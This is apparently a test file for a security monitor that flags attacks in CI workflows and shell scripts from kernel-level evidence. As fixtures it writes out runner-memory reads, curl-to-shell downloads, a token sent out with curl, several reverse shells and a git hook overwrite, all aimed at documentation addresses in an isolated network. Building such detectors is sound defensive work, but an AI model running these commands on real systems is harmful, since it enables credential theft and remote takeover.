import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  chaperone,
  makeFolder,
  makeRepository,
  type Ran,
  real,
  run,
  runActSeen,
} from '../commands/testing/local-run.ts';

const found = ({ summary }: Ran) =>
  summary.findings.map(({ severity, rule, subject }) => `${severity} ${rule} ${subject.name}`);

test('a step of a real workflow that dumps its runner’s memory is found, and the step is named', real, async () => {
  const workspace = makeRepository('tj-actions', {
    '.github/workflows/ci.yml': `
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - {name: Honest, run: "true"}
      - {name: Changed files, run: "dd if=/proc/$PPID/mem of=/dev/null bs=1 count=1 2>/dev/null || true; cat /proc/$PPID/environ > /dev/null; true"}
`,
  });
  const ran = await runActSeen(['--files'], workspace);
  assert.deepEqual(found(ran), ['Critical runner-memory act', 'High process-environment act']);
  const [first] = ran.summary.findings;
  assert.deepEqual([first?.step?.name, first?.processes], ['Changed files', ['bash', 'dd']]);
  assert.match(ran.stderr, /▲ Critical {2}Runner memory read: dd → act {3}rule runner-memory/);
  assert.match(ran.stderr, /2 findings \(1 Critical\)/);
});

/** A network of the test's own, whose only address outside of loopback is one for documentation. */
const inOwnNetwork = [
  ...['unshare', '--net', 'sh', '-c'],
  'ip link set lo up && ip addr add 203.0.113.1/32 dev lo && exec "$@"',
  'sh',
];

const attack = `node server.js & server=$!
for i in $(seq 200); do [ -e ready ] && break; sleep 0.05; done
curl -s http://203.0.113.1:8080/ | sh
cat .npmrc | curl -s --data-binary @- http://203.0.113.2:8080/ || true
bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1' || true
echo stolen > .git/hooks/pre-commit
kill $server`;

const server = `
require('http').createServer((request, response) => response.end('true\\n')).listen(8080, '203.0.113.1', () => require('fs').writeFileSync('ready', ''));
require('net').createServer((socket) => socket.end('exit\\n')).listen(4444, '203.0.113.1');
`.replaceAll('\\\\n', '\\n');

test(
  'a download into a shell, a reverse shell, a stolen token and a git hook are found by what the kernel tells',
  real,
  async () => {
    const workspace = makeRepository('attacks', {
      'server.js': server,
      '.npmrc': '//registry.example.com/:_authToken=x\n',
    });
    const ran = await run(['--files', '--', 'sh', '-c', attack], { cwd: workspace }, [...inOwnNetwork, chaperone]);
    assert.deepEqual(found(ran).sort(), [
      'Critical reverse-shell 203.0.113.1:4444',
      'High credentials-sent 203.0.113.2:8080',
      `Medium hook-changed ${workspace}/.git/hooks/pre-commit`,
      'Medium piped-download 203.0.113.1',
    ]);
  },
);

test('a daemon, a debugger and a pipe of this machine are no attack', real, async () => {
  const workspace = makeFolder('honest', { 'a.js': 'setTimeout(() => {}, 50)' });
  const script =
    'echo true | sh; node a.js & cat /proc/self/environ > /dev/null; (echo 1; echo 2) | sort | cat > out; wait';
  assert.deepEqual(found(await run(['--files', '--', 'sh', '-c', script], { cwd: workspace })), []);
});

/** Ways to be handed a program or commands, each from an address of its own. */
const variations: readonly (readonly [command: string, expected: string])[] = [
  ['wget -qO- http://203.0.113.2:8080/ | sh', 'piped-download 203.0.113.2'],
  ["bash -c 'bash <(curl -s http://203.0.113.3:8080/)'", 'piped-download 203.0.113.3'],
  ['curl -s http://203.0.113.4:8080/ | gzip -c | gzip -d | bash -s -- -y', 'piped-download 203.0.113.4'],
  [
    `node -e "fetch('http://203.0.113.5:8080/').then((r) => r.text()).then((t) => require('child_process').spawn('sh').stdin.end(t))"`,
    'piped-download 203.0.113.5',
  ],
  [
    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("203.0.113.6:4444"); open(P, "|-", "sh"); print P <$s>'`,
    'piped-download 203.0.113.6',
  ],
  ["bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 | sh >&3'", 'reverse-shell 203.0.113.7:4444'],
  [
    `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("203.0.113.8:4444"); open(STDIN, "<&", $s); exec "sh", "-i"'`,
    'reverse-shell 203.0.113.8:4444',
  ],
];

test(
  'a program or commands from the network are found in whatever way they are handed to an interpreter',
  real,
  async () => {
    const serving = server.replaceAll("'203.0.113.1'", "'0.0.0.0'");
    const workspace = makeFolder('variations', { 'server.js': serving });
    const start = 'node server.js & server=$!; for i in $(seq 200); do [ -e ready ] && break; sleep 0.05; done';
    const script = [start, ...variations.map(([command]) => `${command} || true`), 'kill $server'].join('\n');
    const addresses = variations.map((_, index) => `ip addr add 203.0.113.${index + 2}/32 dev lo`);
    const [unshare, net, sh, option, prepare = '', name] = inOwnNetwork;
    const within = [unshare, net, sh, option, [...addresses, prepare].join(' && '), name].map(String);
    const ran = await run(['--files', '--', 'sh', '-c', script], { cwd: workspace }, [...within, chaperone]);
    const told = ran.summary.findings.map(({ rule, subject }) => `${rule} ${subject.name}`);
    assert.deepEqual(
      variations.filter(([, expected]) => !told.includes(expected)),
      [],
      told.join('; '),
    );
  },
);
